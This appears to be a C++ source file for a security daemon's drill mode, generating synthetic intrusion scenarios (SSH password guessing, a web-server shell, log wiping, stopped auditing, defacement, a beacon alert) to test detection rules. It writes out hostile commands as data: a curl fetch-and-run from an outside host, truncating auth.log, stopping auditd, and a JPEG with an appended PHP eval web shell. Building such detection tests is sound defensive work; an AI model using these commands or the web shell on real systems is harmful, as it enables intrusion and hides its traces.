// What happens on the servers themselves.
#include <fmt/format.h>

#include "daemon/drill/files.hpp"
#include "daemon/drill/log_lines.hpp"
#include "daemon/drill/scenario.hpp"

namespace kentongan::drill {

namespace {

using std::chrono::minutes;
using std::chrono::seconds;

void say(Scene& scene, Duration at, std::string_view process, const std::string& text) {
    const Timestamp time = scene.start + at;
    scene.script.line(time, std::string(kAuthLog), syslog_line(time, process, text));
}

void run(Scene& scene, Duration at, const Execution& what) {
    const Timestamp time = scene.start + at;
    const auto serial =
        static_cast<std::uint64_t>(to_nanoseconds(time) / 1'000'000'000) % 1'000'000;
    scene.script.line(time, std::string(kAuditLog), audit_lines(time, 5'000'000 + serial, what));
}

void ssh_guessed(Scene& scene) {
    for (int i = 0; i < 80; ++i)
        say(scene, std::chrono::milliseconds{700 * i}, "sshd",
            fmt::format("Failed password for root from 203.0.113.71 port {} ssh2", 40000 + i));
    say(scene, seconds{70}, "sshd", "Accepted password for root from 203.0.113.71 port 50122 ssh2");
}

void shell_of_web_server(Scene& scene) {
    const auto by_web = [](std::string exe, std::vector<std::string> arguments) {
        return Execution{.exe = std::move(exe),
                         .arguments = std::move(arguments),
                         .folder = "/var/www/upload",
                         .uid = 33,
                         .user = "www-data"};
    };
    run(scene, seconds{0}, by_web("/usr/bin/dash", {"sh", "-c", "id"}));
    run(scene, seconds{5}, by_web("/usr/bin/id", {"id"}));
    run(scene, seconds{12},
        by_web("/usr/bin/curl", {"curl", "-s", "-o", "/dev/shm/.x", "http://203.0.113.72/x"}));
    run(scene, seconds{20}, by_web("/dev/shm/.x", {"/dev/shm/.x"}));
}

/// The intruder empties the log of logins; the collector sees it shrink.
void log_wiped(Scene& scene) {
    run(scene, seconds{0},
        {.exe = "/usr/bin/truncate", .arguments = {"truncate", "-s", "0", "/var/log/auth.log"}});
    scene.script.add({scene.start + seconds{2}, Action::Kind::truncate, std::string(kAuthLog), {}});
}

void audit_stopped(Scene& scene) {
    run(scene, seconds{0},
        {.exe = "/usr/bin/systemctl", .arguments = {"systemctl", "stop", "auditd"}});
}

void defaced(Scene& scene) {
    scene.script.add({scene.start, Action::Kind::replace, fmt::format("{}/index.html", kWebRoot),
                      "<h1>hacked by nobody</h1>\n"});
}

/// A photograph with a web shell behind the end of the picture.
void polyglot(Scene& scene) {
    std::string image = "\xFF\xD8\xFF\xE0";
    image += std::string("\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00", 16);
    for (int i = 0; i < 4000; ++i) image.push_back(static_cast<char>((i * 37) % 250));
    image += "\xFF\xD9\n" + std::string("<?p") + "hp ev" + "al($_PO" + "ST['c']); ?>\n";
    scene.script.add(
        {scene.start, Action::Kind::replace,
         fmt::format("{}/3171011001001-20241127-140501--{}.jpg", kUploads, scene.random.uuid()),
         std::move(image)});
}

void callback(Scene& scene) {
    for (int i = 0; i < 3; ++i) {
        const Timestamp time = scene.start + seconds{30 * i};
        scene.script.line(time, std::string(kSuricataLog),
                          suricata_line(time, "10.20.0.21", "203.0.113.73", 2'850'001,
                                        "ET MALWARE Cobalt Strike Beacon Observed", 1));
    }
}

/// logrotate moves a log away and a new one begins.
void rotation(Scene& scene) {
    scene.script.add({scene.start, Action::Kind::rotate, std::string(kWebLog), {}});
    run(scene, seconds{1},
        {.exe = "/usr/sbin/logrotate", .arguments = {"logrotate", "/etc/logrotate.conf"}});
}

/// Administrators at their ordinary work, one of them with a typo in the password.
void maintenance(Scene& scene) {
    say(scene, seconds{0}, "sshd", "Failed password for ratna from 10.20.0.12 port 41222 ssh2");
    say(scene, seconds{5}, "sshd",
        "Accepted publickey for ratna from 10.20.0.12 port 41224 ssh2: ED25519 SHA256:abc");
    run(scene, seconds{30},
        {.exe = "/usr/bin/systemctl",
         .arguments = {"systemctl", "status", "nginx"},
         .folder = "/home/ratna",
         .uid = 1001,
         .user = "ratna"});
    run(scene, seconds{60},
        {.exe = "/usr/bin/tail",
         .arguments = {"tail", "-n", "50", "/var/log/syslog"},
         .folder = "/home/ratna",
         .uid = 1001,
         .user = "ratna"});
}

}  // namespace

std::vector<Scenario> host_scenarios() {
    return {
        {"ssh-guessed",
         "Root's password is guessed over SSH, and works",
         false,
         minutes{70},
         minutes{5},
         {"anomaly:login-after-guessing", "SSH login from an address that guessed passwords",
          "anomaly:brute-force", "SSH passwords guessed", "SSH passwords guessed slowly",
          "Root logged in over SSH with a password",
          "SSH login from outside the networks of administrators"},
         {"kpu", "bssn"},
         {"203.0.113.71"},
         ssh_guessed},
        {"server-shell",
         "The web server runs a shell and fetches a program",
         false,
         minutes{155},
         minutes{5},
         {"Web or application server ran a shell or a tool of intruders",
          "Program run from a folder that anybody can write to",
          "Service account looks around on the server"},
         {"kpu", "bssn", "polri"},
         {"/var/www/upload", "/dev/shm/.x", "www-data"},
         shell_of_web_server},
        {"log-wiped",
         "The log of logins is emptied",
         false,
         minutes{165},
         minutes{10},
         {"Log emptied, deleted or rewritten by hand",
          "A log became smaller and no copy holds what it held"},
         {"kpu", "bssn", "polri"},
         {"auth.log"},
         log_wiped},
        {"audit-stopped",
         "The audit daemon is stopped",
         false,
         minutes{170},
         minutes{5},
         {"Auditing, logging or monitoring was stopped"},
         {"kpu", "bssn"},
         {"auditd", "617564697464"},
         audit_stopped},
        {"defacement",
         "The front page is replaced",
         false,
         minutes{180},
         minutes{5},
         {"integrity:H02-webroot-changed"},
         {"kpu", "bssn"},
         {"webroot/index.html"},
         defaced},
        {"polyglot-upload",
         "A photograph hides a web shell",
         false,
         minutes{190},
         minutes{5},
         {"yara:polyglot-image-webshell", "yara:polyglot-image-script", "yara:webshell-php"},
         {"kpu", "bssn", "polri"},
         {"3171011001001-20241127-140501"},
         polyglot},
        {"beacon",
         "Another sensor sees a server call its command post",
         false,
         minutes{195},
         minutes{5},
         {"ET MALWARE Cobalt Strike Beacon Observed"},
         {"kpu", "bssn"},
         {"203.0.113.73"},
         callback},
        {"rotation",
         "logrotate moves the web log away",
         true,
         minutes{290},
         minutes{10},
         {"A log became smaller and no copy holds what it held",
          "A log was removed and no copy holds what it held", "anomaly:log-gap"},
         {},
         {"nginx.log"},
         rotation},
        {"maintenance",
         "Administrators look at their servers",
         true,
         minutes{130},
         minutes{10},
         {"anomaly:brute-force", "SSH passwords guessed"},
         {},
         {"10.20.0.12", "ratna"},
         maintenance},
    };
}

}  // namespace kentongan::drill
